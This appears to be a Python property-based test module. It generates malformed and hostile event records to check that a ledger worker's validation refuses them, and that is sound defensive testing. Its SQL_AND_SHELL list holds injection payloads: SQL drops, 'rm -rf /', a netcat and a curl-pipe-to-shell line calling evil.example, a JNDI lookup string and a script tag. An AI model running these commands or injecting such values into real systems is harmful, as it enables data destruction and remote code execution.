"""Hypothesis strategies for records no producer should send, and some that are fine.

Every hostile record is invalid by construction; `assert_refused_locally` checks
that with `parse_event` and the key rule before anything is sent, so that a test
failure means the worker, not the generator, went wrong.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any
from uuid import uuid4

from hypothesis import strategies as st

from ledger.worker.validation import misplaced
from schemas import EVENT_TYPES, Event, InvalidEvent, parse_event, serialize
from schemas.examples import examples

BASES: list[dict[str, Any]] = [
    json.loads(serialize(item))
    for item in examples().values()
    if isinstance(item, Event)
]

# Each holds a character that no identifier may contain (space, quote, ;, |, ...).
SQL_AND_SHELL = [
    "' OR '1'='1",
    "'; DROP TABLE sessions; --",
    '" OR ""="',
    "1; SELECT * FROM system.users",
    "$(rm -rf /)",
    "`reboot`",
    "x | nc evil.example 4444",
    "a && curl http://evil.example/x | sh",
    "%00",
    "${jndi:ldap://evil.example/a}",
    "Robert'); DROP TABLE students;--",
    "..\\..\\windows\\system32",
    "<script>alert(1)</script>",
    "name\nINJECTED: yes",
    "tab\there",
    "nul\x00byte",
]
FORBIDDEN_IN_IDENTIFIERS = " '\";|&()<>\\`*!?%{}[]^\n\t\x00"

IDENTIFIER_PATHS = [
    ("event_id",),
    ("session_id",),
    ("parent_session_id",),
    ("principal", "id"),
    ("principal", "tenant"),
    ("principal", "owner"),
    ("principal", "agent_type"),
    ("source", "device_id"),
    ("delegation", "subject"),
    ("delegation", "subject_session_id"),
    ("task_id",),
    ("token_id",),
    ("requester",),
    ("cascade_root",),
    ("child_session_id",),
    ("auth_method",),
    ("command_id",),
]

MUTATIONS = [
    "wrong type",
    "naive time",
    "unknown type",
    "metacharacters",
    "missing",
    "hostile label key",
]
WRONG_TYPES = st.one_of(
    st.integers(),
    st.floats(allow_nan=False),
    st.booleans(),
    st.none(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)


@dataclass(frozen=True)
class Record:
    """One record to send to auth.events, and what it is meant to test."""

    kind: str
    value: bytes
    key: bytes | None
    wrong_partition: bool = False


def required_fields(document: dict[str, Any]) -> list[str]:
    model = EVENT_TYPES[document["type"]]
    return ["type"] + [n for n, f in model.model_fields.items() if f.is_required()]


def encode(document: Any) -> bytes:
    return json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")


def session_key(document: Any) -> st.SearchStrategy[bytes | None]:
    session = document.get("session_id") if isinstance(document, dict) else None
    keys: list[st.SearchStrategy[bytes | None]] = [st.none(), st.binary(max_size=40)]
    if isinstance(session, str):
        keys.append(st.just(session.encode("utf-8", "surrogatepass")))
    return st.one_of(keys)


@st.composite
def mutated(draw: st.DrawFn) -> Record:
    """A valid event with one thing made wrong."""
    document = json.loads(json.dumps(draw(st.sampled_from(BASES))))
    kind = draw(st.sampled_from(MUTATIONS))
    if kind == "wrong type":
        document[draw(st.sampled_from(required_fields(document)))] = draw(WRONG_TYPES)
    elif kind == "naive time":
        moment = draw(st.datetimes(timezones=st.none()))
        document["occurred_at"] = moment.isoformat()
    elif kind == "unknown type":
        document["type"] = draw(
            st.text(max_size=40).filter(lambda t: t not in EVENT_TYPES)
        )
    elif kind == "metacharacters":
        fields = EVENT_TYPES[document["type"]].model_fields
        paths = [
            p
            for p in IDENTIFIER_PATHS
            if p[0] in fields and (len(p) == 1 or isinstance(document.get(p[0]), dict))
        ]
        *parents, name = draw(st.sampled_from(paths))
        payload = draw(
            st.one_of(
                st.sampled_from(SQL_AND_SHELL),
                st.builds(
                    "{}{}{}".format,
                    st.from_regex(r"[A-Za-z0-9._:@-]{0,20}", fullmatch=True),
                    st.sampled_from(FORBIDDEN_IN_IDENTIFIERS),
                    st.text(max_size=20),
                ),
            )
        )
        target = document
        for parent in parents:
            target = target[parent]
        target[name] = payload
    elif kind == "missing":
        del document[draw(st.sampled_from(required_fields(document)))]
    else:
        key = draw(st.text(min_size=1, max_size=30)) + draw(
            st.sampled_from(["\x00", " ", "A", "ü", "'"])
        )
        document["labels"] = {key * draw(st.integers(1, 60)): "v"}
    return Record(kind, encode(document), draw(session_key(document)))


@st.composite
def huge(draw: st.DrawFn) -> Record:
    """A valid event grown past 64 KiB through one string field."""
    document = json.loads(json.dumps(draw(st.sampled_from(BASES))))
    unit = draw(st.text(min_size=1, max_size=8))
    size = draw(st.integers(65 * 1024, 160 * 1024))
    field = draw(st.sampled_from(["session_id", "x-note", "resource", "detail"]))
    # Sized as encoded: a control character takes six bytes (\u0011) in JSON.
    per_unit = len(encode(unit)) - 2
    document[field] = unit * (size // per_unit + 1)
    return Record("huge string", encode(document), draw(session_key(document)))


@st.composite
def not_an_object(draw: st.DrawFn) -> Record:
    """JSON that parses, but is not an object."""
    document = draw(
        st.one_of(
            st.integers(),
            st.floats(allow_nan=False, allow_infinity=False),
            st.text(max_size=50),
            st.booleans(),
            st.none(),
            st.lists(st.sampled_from(BASES), max_size=2),
        )
    )
    return Record("not an object", encode(document), draw(session_key(document)))


@st.composite
def misplaced_event(draw: st.DrawFn) -> Record:
    """A valid event under another key, or on another partition."""
    document = dict(draw(st.sampled_from(BASES)), event_id=str(uuid4()))
    if draw(st.booleans()):
        key = draw(
            st.binary(max_size=40).filter(
                lambda k: k != document["session_id"].encode()
            )
        )
        return Record("wrong key", encode(document), key)
    return Record(
        "wrong partition", encode(document), document["session_id"].encode(), True
    )


def hostile_records() -> st.SearchStrategy[Record]:
    """Every kind of refused record; huge ones are rare to keep the test bounded."""
    return st.one_of(
        st.builds(
            lambda raw: Record("random bytes", raw, None), st.binary(max_size=1024)
        ),
        mutated(),
        mutated(),
        mutated(),
        not_an_object(),
        misplaced_event(),
        st.integers(0, 6).flatmap(lambda n: huge() if n == 0 else mutated()),
    )


def assert_refused_locally(record: Record) -> None:
    """Fail if `record` would pass validation at home; it must not."""
    if record.wrong_partition:
        return
    try:
        event = parse_event(record.value)
    except InvalidEvent:
        return
    assert misplaced(event, record.key, 0, None), f"{record.kind} is valid: {record}"
